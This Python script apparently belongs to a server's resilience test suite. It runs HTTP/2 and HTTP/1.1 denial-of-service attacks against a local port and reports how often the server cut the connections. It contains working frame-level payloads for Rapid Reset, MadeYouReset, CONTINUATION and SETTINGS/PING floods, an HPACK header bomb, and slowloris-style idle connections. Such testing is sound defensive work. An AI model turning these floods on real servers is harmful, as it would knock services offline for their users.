"""Floods of HTTP/2 and of answers that nobody reads, as a program of its own: `floods.py PORT NAME SECONDS CONNECTIONS`.

For: an attacker that does not share the honest clients' process, and comes back as soon as it is cut off. Prints one
line of JSON: how many connections, how many steps, how often the server ended it. Not for judging; `attacks.py` does.
"""

import asyncio
import json
import logging
import sys
import time

from hpack import Encoder

from case import HOST

# Whom the server counts against this address does not concern honest clients of another one.
ADDRESS = "127.0.0.2"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# The origin answers this with a mebibyte.
LARGE = b"/c/f3?large"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def block(path=b"/c/f1", method=b"GET", more=()):
    pseudo = [(b":method", method), (b":scheme", b"http"), (b":authority", HOST), (b":path", path)]
    return Encoder().encode([*pseudo, *more], huffman=False)


def stream(number):
    return 2 * number + 1


SMALL, POST, ASKS = block(), block(method=b"POST"), block(LARGE)
# One long header in the table, named again and again: a few bytes on the wire, megabytes when read.
BOMB = block(b"/c/f2", more=[(b"x", b"y" * 3000)]) + b"\xbe" * 4000
CRUMB = Encoder().encode([(b"x", b"y" * 1000)], huffman=False)
GET = b"GET %s HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n"
NO_WINDOW = PREFACE + frame(4, 0, 0, b"\x00\x04\x00\x00\x00\x00")

# What the n-th step of a connection sends.
FLOODS = {
    "rapid reset": lambda n: frame(1, 5, stream(n), SMALL) + frame(3, 0, stream(n), (8).to_bytes(4, "big")),
    "MadeYouReset, window of nothing": lambda n: frame(1, 4, stream(n), SMALL) + frame(8, 0, stream(n), (0).to_bytes(4, "big")),
    "MadeYouReset, window too large": lambda n: frame(1, 4, stream(n), SMALL) + frame(8, 0, stream(n), (0x7FFFFFFF).to_bytes(4, "big")),
    "MadeYouReset, priority of itself": lambda n: frame(1, 4, stream(n), SMALL) + frame(2, 0, stream(n), stream(n).to_bytes(4, "big") + b"\x10"),
    "MadeYouReset, data after the end": lambda n: frame(1, 5, stream(n), SMALL) + frame(0, 0, stream(n), b"x"),
    "CONTINUATION flood": lambda n: frame(1, 0, 1, SMALL) if n == 0 else frame(9, 0, 1, CRUMB),
    "CONTINUATION of nothing": lambda n: frame(1, 0, 1, SMALL) if n == 0 else frame(9, 0, 1),
    "SETTINGS flood": lambda n: frame(4, 0, 0, b"\x00\x04\x00\x01\x00\x00"),
    "SETTINGS flood, table sizes": lambda n: frame(4, 0, 0, b"\x00\x01" + (n % 2 * 4096).to_bytes(4, "big")),
    "PING flood": lambda n: frame(6, 0, 0, b"12345678"),
    "PRIORITY flood": lambda n: frame(2, 0, stream(n), b"\0\0\0\0\x10"),
    "empty DATA flood": lambda n: frame(1, 4, 1, POST) if n == 0 else frame(0, 0, 1),
    "unknown frames": lambda n: frame(0x77, 0, 0, b"x" * 100),
    "header list of bombs": lambda n: frame(1, 5, stream(n), BOMB),
    "stream flood": lambda n: frame(1, 5, stream(n), SMALL),
}
# What a connection sends once, before it says nothing more for as long as it may.
SILENCES = {
    "streams opened and left": PREFACE + frame(4, 0, 0) + b"".join(frame(1, 4, stream(n), POST) for n in range(100)),
    "header block without end": PREFACE + frame(4, 0, 0) + frame(1, 0, 1, SMALL),
    "answers not read, HTTP/2": NO_WINDOW + b"".join(frame(1, 5, stream(n), ASKS) for n in range(100)),
    "answers not read, HTTP/1.1": GET % LARGE * 10,
    "idle connections, HTTP/2": PREFACE + frame(4, 0, 0),
    "idle connections, HTTP/1.1": GET % b"/c/f4",
}


class Attacker:
    def __init__(self, port, name, until):
        self.port, self.name, self.until = port, name, until
        self.connections = self.steps = self.ended = 0

    async def once(self):
        # So that the kernel does not take what is not read.
        reader, writer = await asyncio.open_connection("127.0.0.1", self.port, local_addr=(ADDRESS, 0), limit=1 << 12)
        self.connections += 1
        gone = asyncio.Event()

        async def read():
            try:
                while await reader.read(1 << 16):
                    pass
            except OSError:
                pass
            gone.set()

        reading = asyncio.ensure_future(read()) if self.name != "answers not read, HTTP/1.1" else None
        try:
            await (self.silent if self.name in SILENCES else self.flood)(writer, gone)
        except (OSError, asyncio.TimeoutError):
            pass
        self.ended += gone.is_set() or writer.transport.is_closing()
        if reading:
            reading.cancel()
        writer.close()

    async def flood(self, writer, gone):
        make, number = FLOODS[self.name], 0
        writer.write(PREFACE + frame(4, 0, 0))
        while not gone.is_set() and time.monotonic() < self.until:
            writer.write(b"".join(make(step) for step in range(number, number + 50)))
            number += 50
            self.steps += 50
            await asyncio.wait_for(writer.drain(), 5)
            await asyncio.sleep(0)

    async def silent(self, writer, gone):
        self.steps += 1
        writer.write(SILENCES[self.name])
        await asyncio.wait_for(gone.wait(), max(0.1, self.until - time.monotonic()))

    async def again(self, place):
        # Not all at once: that would be a flood of requests.
        await asyncio.sleep(place * 0.001)
        while time.monotonic() < self.until:
            try:
                await self.once()
            except OSError:
                await asyncio.sleep(0.05)


async def main(port, name, seconds, connections):
    # Who floods is cut off; asyncio would say so for every piece.
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)
    attacker = Attacker(int(port), name, time.monotonic() + float(seconds))
    await asyncio.gather(*(attacker.again(place) for place in range(int(connections))))
    print(json.dumps({"connections": attacker.connections, "steps": attacker.steps, "ended": attacker.ended}))


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
